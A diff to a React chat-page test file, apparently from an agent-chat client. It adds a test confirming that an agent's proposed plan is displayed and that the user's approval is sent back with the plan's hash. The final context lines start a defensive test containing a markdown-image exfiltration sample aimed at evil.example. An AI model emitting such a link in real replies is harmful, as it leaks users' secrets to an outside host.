@@ -43,6 +43,30 @@ describe('ChatPage', () => {
     expect(calls.find(({ path }) => path.startsWith('/a2a/'))?.headers.get('A2A-Version')).toBe('1.0')
   })
 
+  it('shows a plan and says yes to exactly that one', async () => {
+    const uri = 'https://tandem.io/a2a/ext/plan/v1'
+    const plan = { hash: 'h1', steps: [{ tool: 'database/query', why: 'Counts them' }] }
+    const asking = task('TASK_STATE_INPUT_REQUIRED', {})
+    Object.assign(asking.status, { message: { messageId: 'm', role: 'ROLE_AGENT', parts: [{ text: 'I would do this' }], metadata: { [uri]: plan } } })
+    let sent = 0
+    const calls = agent({
+      SendStreamingMessage: () =>
+        sent++ === 0
+          ? events(rpc({ task: asking }))
+          : events(rpc({ task: task('TASK_STATE_COMPLETED', { artifacts: [{ artifactId: 'a', parts: [{ text: '42 of them' }] }] }) })),
+    })
+    open('/chat/:agent', '/chat/echo', <ChatPage />)
+    await say('How many?')
+    const shown = await screen.findByRole('region', { name: 'Plan of echo' })
+    expect(shown.textContent).toContain('database/query Counts them')
+    await userEvent.click(await screen.findByRole('button', { name: 'Agree' }))
+    expect(await screen.findByText('42 of them')).toBeTruthy()
+    expect(screen.queryByRole('button', { name: 'Agree' })).toBeNull()
+    const { params } = calls.filter(({ path }) => path.startsWith('/a2a/')).at(-1)?.body as { params: { message: { taskId: string; metadata: unknown } } }
+    expect(params.message.taskId).toBe('t1')
+    expect(params.message.metadata).toEqual({ [uri]: { hash: 'h1', agree: true } })
+  })
+
   it('shows what an agent answers as text: nothing in it is loaded or can be followed', async () => {
     const hostile = [
       '![stolen](https://evil.example/log?data=secret)',
